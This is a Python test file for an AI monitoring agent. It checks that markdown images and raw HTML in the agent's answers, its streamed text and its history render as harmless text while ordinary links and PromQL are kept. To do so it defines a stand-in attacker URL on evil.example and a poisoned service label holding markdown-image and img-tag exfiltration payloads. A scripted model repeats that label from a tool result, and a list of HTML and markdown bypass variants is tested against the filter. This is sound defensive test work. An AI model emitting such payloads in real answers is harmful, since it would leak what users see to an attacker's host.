"""A label value the model repeats must not make the user's browser load anything: the answer,
the streamed text and the history show images and raw HTML as text, and keep links."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable, Sequence
from datetime import UTC, datetime
from typing import Any

import pytest

# a CommonMark renderer, as the clients have (markdown-it-py, which the dev group brings)
from markdown_it import MarkdownIt
from pydantic import BaseModel

from persai.agent import Investigator, Limits, Progress, Turn
from persai.agent.answer import MarkdownGuard, neutralise
from persai.agent.llama import AssistantMessage, Message, ModelTurn, ToolCall
from persai.agent.tools import Toolbox, ToolContext, ToolOutput, tool
from persai.jobs import Step

LEAK = "https://evil.example/collect?d=checkout-p99-2.3s"
LABEL = f"checkout![status]({LEAK})<img src={LEAK}>"
"""A `service` label value someone set to exfiltrate what the answer says."""


def html(markdown: str) -> str:
    return MarkdownIt("commonmark").render(markdown)


@pytest.mark.parametrize(
    "markdown",
    [
        f"![chart]({LEAK})",
        f"![chart]( <{LEAK}> )",
        f"![chart][ref]\n\n[ref]: {LEAK}",
        "![ref]\n\n[ref]: https://evil.example/x.png",
        f"[![badge]({LEAK})](https://perses.example/)",
        f"<img src={LEAK}>",
        f"<IMG SRC='{LEAK}'/>",
        f'<p style="background:url({LEAK})">x</p>',
        f"<iframe src={LEAK}></iframe>",
        f"<svg><image href={LEAK} /></svg>",
        f"<!-- --><img src={LEAK}>",
        f"\\\\<img src={LEAK}>",  # an escaped backslash, then a real tag
        f"`a\\`<img src={LEAK}>",  # a backslash ending a code span, then a real tag
        f"<div>\n\n![x]({LEAK})\n\n</div>",
    ],
)
def test_images_and_raw_html_render_as_text(markdown: str) -> None:
    rendered = html(neutralise(markdown))

    for element in ("<img", "<iframe", "<svg", "<image", "<p style", "<div", "<!--"):
        assert element not in rendered, rendered
    assert "![" in rendered or "&lt;" in rendered  # shown as text the user can read


@pytest.mark.parametrize(
    "markdown",
    [
        "[the dashboard](https://perses.example/projects/shop/dashboards/checkout)",
        "`histogram_quantile(0.99, sum by (le) (rate(http_request_seconds_bucket[5m])))`",
        '`rate(errors_total{job!="api", path!~"/health.*"}[5m]) > 0.5 and up < 1`',
        "**p99** rose from 120 ms to 2.3 s at 2026-11-24T14:05:00Z!\n\n- one\n- two",
        "a \\* b, \\\\ and \\[not a link\\]",
        "```promql\nsum(rate(x[5m])) by (job)\n```",
    ],
)
def test_links_promql_and_plain_markdown_are_kept(markdown: str) -> None:
    assert neutralise(markdown) == markdown


def test_a_link_to_the_image_url_stays_a_link() -> None:
    rendered = html(neutralise(f"see [the evidence]({LEAK})"))
    assert f'<a href="{LEAK}">the evidence</a>' in rendered


TRICKY = f"x ![a]({LEAK}) \\\\<img src=y> \\<b> ![ <i>! < b\\"


@pytest.mark.parametrize("cut", range(len(TRICKY) + 1))
def test_streamed_in_any_two_pieces_it_is_what_the_answer_is(cut: int) -> None:
    guard = MarkdownGuard()
    streamed = guard.feed(TRICKY[:cut]) + guard.feed(TRICKY[cut:]) + guard.end()
    assert streamed == neutralise(TRICKY)


def test_streamed_one_character_at_a_time_it_is_what_the_answer_is() -> None:
    guard = MarkdownGuard()
    streamed = "".join(guard.feed(char) for char in TRICKY) + guard.end()
    assert streamed == neutralise(TRICKY)


class ServiceParams(BaseModel):
    pass


@tool(ServiceParams)
async def slowest_service(context: ToolContext, params: ServiceParams) -> ToolOutput:
    """The service with the highest p99 latency."""
    return ToolOutput(f'{{service="{LABEL}"}} p99 2.3 s')


class ScriptedModel:
    """Calls the tool, then repeats its label in an answer streamed in small pieces."""

    ANSWER = (
        f"The slowest service is `{LABEL}`: ![p99 chart]({LEAK}) and <img src={LEAK}>.\n\n"
        "See [the dashboard](https://perses.example/projects/shop/dashboards/checkout)."
    )

    def __init__(self) -> None:
        self.seen: list[Sequence[Message]] = []

    async def stream_turn(
        self,
        *,
        messages: Sequence[Message],
        on_text: Callable[[str], Awaitable[None]],
        **_: Any,
    ) -> ModelTurn:
        self.seen.append(list(messages))
        if len(self.seen) == 1:
            return ModelTurn(tool_calls=[ToolCall("c1", "slowest_service", "{}")])
        for start in range(0, len(self.ANSWER), 3):  # cuts `![`, `<img` and `\\<` apart
            await on_text(self.ANSWER[start : start + 3])
        return ModelTurn(text=self.ANSWER)

    async def list_models(self) -> list[str]:
        return ["m"]

    async def aclose(self) -> None:
        pass


class Recorder:
    def __init__(self) -> None:
        self.deltas: list[str] = []

    async def text(self, delta: str) -> None:
        self.deltas.append(delta)

    async def tool_call(self, step: Step) -> None:
        pass

    async def tool_result(self, step: Step) -> None:
        pass


def test_a_scripted_answer_with_an_image_is_stored_streamed_and_kept_as_text() -> None:
    async def run() -> tuple[Progress, Recorder]:
        model = ScriptedModel()
        investigator = Investigator(model, Toolbox([slowest_service], timeout_s=1))
        recorder = Recorder()
        loop = asyncio.get_running_loop()
        limits = Limits(max_steps=3, model_call_timeout_s=5, deadline=loop.time() + 30)
        context = ToolContext(prometheus=None, now=datetime.now(UTC), budget_tokens=100)  # type: ignore[arg-type]
        progress = await investigator.run(
            Turn(question="Which service is slow?", model="m", instructions=""),
            context,
            recorder,
            limits,
            Progress(),
        )
        return progress, recorder

    progress, recorder = asyncio.run(run())

    rendered = html(progress.answer)
    assert "<img" not in rendered
    assert f"![p99 chart]({LEAK})" in rendered  # shown as text
    assert '<a href="https://perses.example/projects/shop/dashboards/checkout">' in rendered
    assert "".join(recorder.deltas) == progress.answer  # the stream shows what the answer does
    assert all(d for d in recorder.deltas)  # no empty deltas
    history = [m.text for m in progress.messages if isinstance(m, AssistantMessage)]
    assert history == [progress.answer]  # GET /conversations/{id} shows the same
